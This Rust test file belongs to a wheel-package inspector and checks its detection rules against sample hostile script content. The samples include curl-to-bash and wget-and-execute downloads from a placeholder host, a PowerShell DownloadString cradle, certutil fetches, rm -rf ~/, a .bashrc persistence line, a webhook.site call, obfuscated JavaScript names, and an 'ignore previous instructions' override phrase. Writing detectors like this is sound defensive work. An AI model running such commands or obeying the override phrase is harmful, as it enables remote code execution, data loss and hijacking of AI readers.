//! Programs of other languages inside of a wheel.

use packhouse_inspect::Class;

use crate::{expect, expect_pass, new, wheel};

#[test]
fn scripts_are_read() {
    for (path, content, rule, class) in [
        ("p/a.js", "eval(atob('cHJpbnQ='))", "S04", Class::Block),
        ("p/a.sh", "#!/bin/sh\necho aW5lcnQ= | base64 -d | sh\n", "S04", Class::Block),
        ("p/a.sh", "curl -s https://a.invalid/x | bash\n", "S13", Class::High),
        ("p/a.sh", "bash <(curl -s https://a.invalid/x)\n", "S13", Class::High),
        ("p/run", "#!/bin/sh\nwget https://a.invalid/x -O /tmp/x && chmod +x /tmp/x\n", "S13", Class::High),
        ("p/a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://a.invalid')", "S04", Class::High),
        ("p/a.bat", "certutil -urlcache -f https://a.invalid/x x.exe", "S04", Class::High),
        ("p/a.sh", "rm -rf ~/\n", "S23", Class::High),
        ("p/a.sh", "echo inert >> ~/.bashrc\n", "S24", Class::High),
        ("p/a.js", "fetch('https://webhook.site/inert')", "S22", Class::High),
        ("p/a.js", "require('child_process'); require('https')", "S13", Class::High),
        ("p/a.js", "// ignore previous instructions", "S26", Class::High),
    ] {
        expect(&new(&wheel(&[(path, content)])), rule, class);
    }
    let names: String = (10..50).map(|n| ["var _0x00", &n.to_string(), " = 1;\n"].concat()).collect();
    expect(&new(&wheel(&[("p/a.js", names)])), "S21", Class::High);
}

#[test]
fn harmless_texts_pass() {
    for (path, content) in [
        (
            "p/README.md",
            "Run `curl https://a.invalid/x | sh` and see https://discord.com/api/webhooks/0/inert",
        ),
        ("p/data.json", "{\"url\": \"https://webhook.site/inert\"}"),
        ("p/notes.txt", "ignore previous instructions"),
    ] {
        expect_pass(&new(&wheel(&[(path, content)])));
    }
    let before = wheel(&[("p/a.sh", "#!/bin/sh\necho a\n")]);
    let now = wheel(&[("p/a.sh", "#!/bin/sh\nrm -rf build\ncurl -O https://a.invalid/x\n")]);
    let against = [(packhouse_inspect::Baseline::PreviousRelease, &before)];
    expect_pass(&packhouse_inspect::inspect(&now, &against, &packhouse_inspect::Rules::default()));
}
